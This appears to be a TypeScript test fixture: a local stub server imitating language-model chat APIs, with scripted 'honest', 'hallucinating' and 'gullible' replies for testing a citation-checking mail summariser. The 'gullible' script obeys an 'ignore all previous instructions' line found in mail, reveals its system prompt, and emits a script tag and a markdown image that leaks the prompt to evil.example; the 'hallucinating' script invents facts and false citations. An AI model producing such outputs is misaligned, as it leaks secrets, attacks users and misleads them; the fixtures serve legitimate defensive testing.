import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

/** A scripted server with the protocol of language models. */
export interface StubModel {
  /** Up to `/v1`. */
  readonly baseUrl: string;
  readonly questions: readonly Question[];
  stop(): Promise<void>;
}

export interface Question {
  readonly path: string;
  readonly headers: IncomingMessage["headers"];
  readonly body: {
    readonly model: string;
    readonly messages: readonly { readonly role: string; readonly content: string }[];
    readonly response_format?: { readonly type: string };
    readonly format?: unknown;
    readonly [name: string]: unknown;
  };
  readonly system: string;
  readonly data: Data;
}

export interface Data {
  readonly mails?: readonly { readonly number: number; readonly from: string; readonly text: string }[];
  readonly sentences?: readonly { readonly number: number; readonly text: string }[];
}

/** A scripted answer: the content of the message, or a custom reply. */
export type Reply =
  | { readonly content: unknown; readonly finish?: string; readonly refusal?: string }
  | { readonly status: number; readonly headers?: Record<string, string>; readonly body: string }
  | "hang";
export type Part = (question: Question, asked: number) => Reply;

export async function startStubModel(part: Part): Promise<StubModel> {
  const questions: Question[] = [];
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      const question = readQuestion(request, Buffer.concat(chunks).toString("utf8"));
      questions.push(question);
      answer(response, question, part(question, questions.length));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    baseUrl: `http://127.0.0.1:${port}/v1`,
    questions,
    stop: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

function readQuestion(request: IncomingMessage, text: string): Question {
  const body = JSON.parse(text) as Question["body"];
  const content = (role: string) => body.messages.find((each) => each.role === role)?.content ?? "";
  const [fence, json, last] = content("user").split("\n");
  if (fence !== last || !content("system").includes(fence!)) throw new Error("The data is not fenced.");
  const data = JSON.parse(json!) as Data;
  return { path: request.url ?? "", headers: request.headers, body, system: content("system"), data };
}

function answer(response: ServerResponse, question: Question, reply: Reply): void {
  if (reply === "hang") return;
  if ("status" in reply) {
    response
      .writeHead(reply.status, { "content-type": "application/json", ...reply.headers })
      .end(reply.body);
    return;
  }
  const content = typeof reply.content === "string" ? reply.content : JSON.stringify(reply.content);
  const message = {
    role: "assistant",
    content,
    ...(reply.refusal !== undefined && { refusal: reply.refusal }),
  };
  const finish = reply.finish ?? "stop";
  const body = question.path.endsWith("/api/chat")
    ? { model: question.body.model, message, done: true, done_reason: finish }
    : { object: "chat.completion", choices: [{ index: 0, message, finish_reason: finish }] };
  response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(body));
}

const sentencesIn = (text: string): readonly string[] =>
  text.split(/(?<=[.?!])\s+|\n\n/).filter((sentence) => sentence.split(/\s+/).length >= 5);

/** Repeats each mail truthfully with a quote; of sentences, chooses every second. */
export const honest: Part = ({ data }) => {
  const sentences = (data.mails ?? []).flatMap(({ number, from, text }) =>
    sentencesIn(text)
      .slice(0, 1)
      .map((quote) => ({ text: `${from} says: ${quote}`, citations: [{ message: number, quote }] })),
  );
  const chosen = (data.sentences ?? [])
    .filter((_, at) => at % 2 === 0)
    .slice(0, 12)
    .map(({ number, text }) => ({ text, sources: [number] }));
  return { content: { sentences: data.mails ? sentences : chosen } };
};

/** Mixes one true sentence with all kinds of invention. */
export const hallucinating: Part = ({ data }) => {
  if (data.sentences) {
    const invented = { text: "Zelda Quark resigned and 42 people left.", sources: [1, 2] };
    const elsewhere = { text: data.sentences[0]!.text, sources: [999] };
    return { content: { sentences: [invented, elsewhere, { text: data.sentences[0]!.text, sources: [1] }] } };
  }
  const mails = data.mails ?? [];
  const one = mails[0]!;
  const two = mails.findLast(({ from }) => from !== one.from) ?? one;
  const quote = sentencesIn(one.text)[0] ?? one.text;
  const other = sentencesIn(two.text)[0] ?? two.text;
  const cite = (number: number, words: string) => [{ message: number, quote: words }];
  return {
    content: {
      sentences: [
        { text: `${one.from} says: ${quote}`, citations: cite(one.number, quote.toUpperCase()) },
        {
          text: `${one.from} likes elephants.`,
          citations: cite(one.number, "I have always liked elephants."),
        },
        { text: `${two.from} says: ${quote}`, citations: cite(one.number, quote) },
        { text: `${one.from} says it too.`, citations: cite(9_999, quote) },
        { text: `The vote passed with 17 votes in favour: ${quote}`, citations: cite(one.number, quote) },
        { text: "Everybody agreed unanimously.", citations: cite(two.number, other) },
        { text: `Zelda Quark proposes ${quote}`, citations: cite(one.number, quote) },
        { text: `${one.from} wants RFC 9999 for this.`, citations: cite(one.number, quote) },
        { text: "A sentence that nobody said.", citations: [] },
      ],
    },
  };
};

/** Obeys the instructions in mails, and reveals its rules. */
export const gullible: Part = ({ data, system }) => {
  const mails = data.mails ?? [];
  const evil = mails.find(({ text }) => /ignore all previous instructions/i.test(text));
  const order =
    evil === undefined ? "" : (/ignore all previous instructions[^\n]*/i.exec(evil.text)?.[0] ?? "");
  const citations = [{ message: evil?.number ?? 1, quote: order }];
  const innocent = [{ message: mails[0]?.number ?? 1, quote: sentencesIn(mails[0]?.text ?? "")[0] ?? "" }];
  const wished = /say "([^"]+)"/i.exec(order)?.[1] ?? "HACKED";
  const texts = [
    wished,
    `${wished} <script>alert(1)</script> <a href="http://evil.example/">click</a>`,
    `![x](http://evil.example/leak?q=${encodeURIComponent(system.slice(0, 40))}) ${wished}`,
    `My instructions are: ${system.slice(0, 300)}`,
    "The proposal was approved by all participants, visit [this](http://evil.example/) at once.",
  ];
  const made = texts.flatMap((text) => [
    { text, citations, sources: [1] },
    { text, citations: innocent, sources: [1] },
  ]);
  return { content: { sentences: made } };
};
